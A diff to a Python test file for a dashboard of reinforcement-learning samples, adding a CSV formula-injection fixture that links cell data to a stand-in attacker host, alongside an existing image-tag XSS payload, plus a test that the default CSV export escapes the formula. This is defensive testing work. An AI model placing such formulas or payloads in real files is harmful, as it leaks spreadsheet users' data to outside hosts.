@@ -20,13 +20,14 @@ PPO, ODD, SLOW = "couplets-ppo", "odd", "slow"
 #: Takes its time on each response of the slow run, and passes the first.
 PATTERN = "/(?:a|b)+x?[cd]/"
 PAYLOAD = "<img src=x onerror=window.pwned=1>"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"nothing")'
 
 
 @pytest.fixture(scope="module", autouse=True)
 def runs(root: Path) -> None:
     write_recording("ppo_couplets", root / PPO)
     (root / ODD).mkdir()
-    texts = ["a zebra", "a horse", f"{PAYLOAD} zebra", "nothing"]
+    texts = ["a zebra", "a horse", f"{PAYLOAD} zebra", FORMULA]
     lines = [
         line(step, index=index, response=text, reward=step + index, ref_reward=9.0, prompt=f"p{index}",
              tokens=False, drop=["group"])
@@ -129,17 +130,27 @@ def test_what_is_found_is_taken_away_as_it_stands(board: BoardPage, whole: pd.Da
     expect(board.count).to_contain_text(f"{len(wanted):,} of {len(whole):,} hit")
     for kind, read in {
         "CSV": pd.read_csv,
+        "CSV, raw": pd.read_csv,
         "JSONL": lambda file: pd.read_json(file, lines=True),
         "parquet": pd.read_parquet,
     }.items():
         with board.page.expect_download() as taken:
             choose(board, "take", kind)
-        assert taken.value.suggested_filename == f"{PPO}.{kind.lower()}"
+        assert taken.value.suggested_filename == f"{PPO}.{kind.partition(',')[0].lower()}"
         found = read(io.BytesIO(Path(taken.value.path()).read_bytes()))
         assert found.uid.tolist() == wanted.uid.tolist()
         assert found.response.tolist() == wanted.response.tolist()
         assert found.kl_k3_mean.tolist() == pytest.approx(wanted.kl_k3.tolist())
     expect(says(board)).to_contain_text(f"parquet: {len(wanted):,} samples")
+
+
+def test_a_csv_is_safe_to_open_unless_it_is_asked_for_raw(board: BoardPage) -> None:
+    board.go(run=ODD, step=1).settled(1)
+    for kind, text in {"CSV": f"'{FORMULA}", "CSV, raw": FORMULA}.items():
+        with board.page.expect_download() as taken:
+            choose(board, "take", kind)
+        assert taken.value.suggested_filename == f"{ODD}.csv"
+        assert text in pd.read_csv(taken.value.path()).response.tolist(), kind
 
 
 def test_a_sample_is_tagged_noted_copied_and_saved(board: BoardPage) -> None:
